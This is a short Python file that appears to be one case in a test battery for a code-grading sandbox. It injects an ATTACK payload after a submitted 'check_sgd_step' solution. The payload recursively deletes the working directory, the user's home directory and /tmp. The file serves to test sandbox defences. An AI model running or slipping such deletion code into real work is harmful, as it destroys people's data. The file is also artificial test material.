"""A cell deletes the working folder, and its home."""

from battery import after

ATTACK = """
import os
import shutil

here = os.getcwd()
for folder in (here, os.path.expanduser("~"), "/tmp"):
    shutil.rmtree(folder, ignore_errors=True)
print("deleted", here)
"""


def submit(solution, release):
    return after(solution, "check_sgd_step", ATTACK)


EARNS = "all"
SANDBOX = True
